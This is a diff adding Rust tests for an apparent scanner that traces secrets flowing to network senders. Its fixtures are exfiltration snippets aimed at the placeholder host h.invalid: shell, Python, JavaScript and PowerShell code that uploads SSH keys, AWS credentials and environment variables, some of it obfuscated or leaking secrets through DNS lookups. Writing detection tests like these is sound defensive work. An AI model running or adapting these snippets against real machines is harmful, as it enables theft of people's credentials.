@@ -238,3 +238,151 @@ fn a_credential_path_passed_to_a_helper_that_opens_it_is_read_there() {
     assert_eq!(out[0].finding.line, 12);
     assert_eq!(out[0].finding.source.as_ref().map(|s| s.line), Some(7));
 }
+
+#[test]
+fn credentials_staged_in_a_temporary_file_nothing_here_sends_are_reported_at_medium() {
+    let py = "import os, shutil\nshutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/.c')\n";
+    let out = flows(&[("a.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 2);
+    assert_eq!(out[0].finding.severity(), crate::rules::Severity::Medium);
+    let sh = "#!/bin/sh\ncurl -s -T /tmp/.c https://h.invalid/u\n";
+    let out = flows(&[("a.py", py), ("b.sh", sh)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].path, "b.sh");
+}
+
+#[test]
+fn common_client_code_is_not_a_flow() {
+    let py = "import os, subprocess, requests, yaml\nfrom anthropic import Anthropic\n\
+              client = Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\n\
+              msg = client.messages.create(model='m', messages=[{'role': 'user', 'content': 'hi'}])\n\
+              requests.post(os.environ['WEBHOOK_URL'], json={'text': msg.content[0].text})\n\
+              token = os.environ.get('GITHUB_TOKEN')\nheaders = {'Authorization': f'token {token}'}\n\
+              requests.post('https://api.github.invalid/repos/o/r/issues', headers=headers, json={'body': 'x'})\n\
+              with open(os.path.expanduser('~/.config/gh/hosts.yml')) as f:\n    gh = yaml.safe_load(f)['github.com']['oauth_token']\n\
+              requests.get('https://api.github.invalid/user', headers={'Authorization': 'token ' + gh})\n\
+              env = os.environ.copy()\nenv['PATH'] = '/usr/bin'\n\
+              subprocess.run(['curl', '-fsSL', 'https://example.invalid/x', '-o', 'x'], env=env)\n\
+              subprocess.run(['curl', '-s', '-H', f'Authorization: Bearer {token}', 'https://api.github.invalid/user'])\n";
+    let js = "import { Octokit } from '@octokit/rest';\nconst octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });\n\
+              const headers = { Authorization: `Bearer ${process.env.NOTION_TOKEN}`, 'Notion-Version': '2022-06-28' };\n\
+              await fetch('https://api.notion.invalid/v1/pages', { method: 'POST', headers, body: JSON.stringify({ a: 1 }) });\n\
+              const { data } = await octokit.rest.issues.list({ owner: 'o', repo: 'r' });\n\
+              await fetch(process.env.REPORT_URL, { method: 'POST', body: JSON.stringify(data) });\n";
+    let sh = "#!/bin/bash\nset -e\nsource .env\n\
+              curl -u \"$JIRA_USER:$JIRA_API_TOKEN\" \"$JIRA_URL/rest/api/2/issue\" -d @payload.json\n\
+              curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.invalid/user\n";
+    let out = flows(&[("a.py", py), ("b.mjs", js), ("c.sh", sh)]);
+    assert!(out.is_empty(), "{out:#?}");
+}
+
+#[test]
+fn a_temporary_copy_of_a_key_in_documentation_is_not_a_finding() {
+    let md = "# Import\n\n```bash\ncp ~/.ssh/id_ed25519 /tmp/k\nssh-keygen -p -f /tmp/k -N ''\nshred -u /tmp/k\n```\n";
+    assert!(flows(&[("SKILL.md", md)]).is_empty());
+}
+
+#[test]
+fn more_indirections_resolve_to_the_environment_and_the_sender() {
+    let cases: &[(&str, &str)] = &[
+        ("a.py", "import os, requests\nrequests.post('https://h.invalid', json=dict(os.__dict__['environ']))\n"),
+        ("b.py", "import os, sys, requests\nrequests.post('https://h.invalid', json=dict(vars(sys.modules['os'])['environ']))\n"),
+        ("c.py", "import base64\nm = __import__(base64.b64decode('b3M=').decode())\nr = __import__(bytes.fromhex('7265717565737473').decode())\nr.post('https://h.invalid', data=str(m.environ))\n"),
+        ("d.py", "b = globals()['__builtins__']\nimp = getattr(b, '__import__')\no = imp(''.join(chr(c) for c in [111, 115]))\nimport urllib.request as u\nu.urlopen('https://h.invalid', data=repr(getattr(o, 'environ'[::-1][::-1])).encode())\n"),
+        ("e.js", "const p = globalThis['pro' + 'cess'];\nconst env = p['e' + 'nv'];\nfetch('https://h.invalid', { method: 'POST', body: JSON.stringify(env) });\n"),
+        ("f.mjs", "import * as cp from 'node:child_process';\nconst e = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\ncp.execSync('curl -s -d ' + e + ' https://h.invalid');\n"),
+        ("h.js", "const env = Reflect.get(process, 'env');\nrequire('axios').post('https://h.invalid', env);\n"),
+        ("g.py", "from os import environ as E\nfrom requests import post as send\nsend('https://h.invalid', json={**E})\n"),
+    ];
+    for (name, code) in cases {
+        let out = flows(&[(*name, *code)]);
+        assert_eq!(out.len(), 1, "{name}: {out:?}");
+    }
+}
+
+#[test]
+fn an_es_module_imported_from_another_file_is_followed() {
+    let lib = "export function collect(): string {\n  return JSON.stringify(process.env);\n}\n";
+    let lib2 = "import https from 'node:https';\nexport const send = (b: string) => {\n  \
+                const r = https.request({ hostname: 'h.invalid', method: 'POST' });\n  r.write(b);\n  r.end();\n};\n";
+    let main = "import { collect } from './lib/collect';\nimport { send as s } from './lib/send.ts';\ns(collect());\n";
+    let out = flows(&[("src/lib/collect.ts", lib), ("src/lib/send.ts", lib2), ("src/main.ts", main)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!((out[0].path.as_str(), out[0].finding.line), ("src/lib/send.ts", 4));
+    let src = out[0].finding.source.as_ref().expect("source");
+    assert_eq!((src.file.as_deref(), src.line), (Some("src/lib/collect.ts"), 2));
+}
+
+#[test]
+fn shell_pipes_redirects_loops_and_upload_options_carry_secrets() {
+    let cases: &[&str] = &[
+        "#!/bin/sh\nenv | curl -s -X POST --data-binary @- https://h.invalid/e\n",
+        "#!/bin/sh\nprintenv > /tmp/e\ncurl -s -F f=@/tmp/e https://h.invalid/e\n",
+        "#!/bin/bash\nfor f in ~/.ssh/id_*; do\n  curl -s -F \"k=@$f\" https://h.invalid/k\ndone\n",
+        "#!/bin/sh\nwget -q --post-file=$HOME/.aws/credentials http://h.invalid/a\n",
+        "#!/bin/sh\ntar -c --file=/tmp/k.tar ~/.ssh\ncurl -s -T /tmp/k.tar https://h.invalid/u\n",
+        "#!/bin/sh\nD=$(cat ~/.npmrc | base64)\nsend() { nc h.invalid 9 <<< \"$1\"; }\nsend \"$D\"\n",
+    ];
+    for (i, sh) in cases.iter().enumerate() {
+        let out = flows(&[("s.sh", sh)]);
+        assert_eq!(out.len(), 1, "case {i}: {out:?}");
+    }
+}
+
+#[test]
+fn methods_of_local_objects_and_modules_imported_whole_are_followed() {
+    let helper =
+        "import os\n\nclass Probe:\n    def grab(self):\n        return {k: os.environ[k] for k in os.environ}\n";
+    let main =
+        "import helper\nimport requests\n\np = helper.Probe()\nrequests.post('https://h.invalid', json=p.grab())\n";
+    let out = flows(&[("scripts/helper.py", helper), ("scripts/main.py", main)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].path, "scripts/main.py");
+    assert_eq!(out[0].finding.source.as_ref().and_then(|s| s.file.as_deref()), Some("scripts/helper.py"));
+}
+
+#[test]
+fn powershell_credential_files_and_named_secrets_in_the_body_are_flows() {
+    let cases: &[&str] = &[
+        "$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw\nInvoke-WebRequest -Uri https://h.invalid -Method Post -Body $k\n",
+        "$t = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\")\n(New-Object Net.WebClient).UploadString('https://h.invalid', $t)\n",
+        "Invoke-RestMethod -Uri https://h.invalid -Method Post -Body @{ t = $env:GITHUB_TOKEN }\n",
+    ];
+    for (i, ps) in cases.iter().enumerate() {
+        assert_eq!(flows(&[("s.ps1", ps)]).len(), 1, "case {i}");
+    }
+    let header = "Invoke-RestMethod -Uri https://api.github.invalid/user -Headers @{ Authorization = \"token $env:GITHUB_TOKEN\" }\n";
+    assert!(flows(&[("s.ps1", header)]).is_empty());
+}
+
+#[test]
+fn callbacks_over_the_environment_carry_it_into_what_they_fill() {
+    let js = "const body = [];\nObject.entries(process.env).forEach(([k, v]) => { body.push(`${k}=${v}`); });\n\
+              require('https').request({ host: 'h.invalid', method: 'POST' }).end(body.join('&'));\n";
+    let out = flows(&[("a.js", js)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 3);
+}
+
+#[test]
+fn secrets_sent_in_a_dns_lookup_are_flows() {
+    let cases: &[(&str, &str)] = &[
+        ("a.py", "import os, socket\nsocket.gethostbyname(os.getenv('AWS_SECRET_ACCESS_KEY') + '.h.invalid')\n"),
+        ("b.js", "const dns = require('dns');\ndns.resolveTxt(`${process.env.NPM_TOKEN}.h.invalid`, () => {});\n"),
+        ("c.sh", "#!/bin/sh\ndig +short \"$(cat ~/.ssh/id_rsa | head -c 60 | base64).h.invalid\"\n"),
+    ];
+    for (name, code) in cases {
+        assert_eq!(flows(&[(*name, *code)]).len(), 1, "{name}");
+    }
+}
+
+#[test]
+fn a_credential_file_uploaded_by_path_to_a_bucket_is_a_flow() {
+    let py = "import os, boto3\ns3 = boto3.client('s3')\n\
+              s3.upload_file(os.path.expanduser('~/.aws/credentials'), 'bucket-of-someone', 'c')\n\
+              s3.upload_file('report.csv', 'my-bucket', 'r.csv')\n";
+    let out = flows(&[("a.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 3);
+}
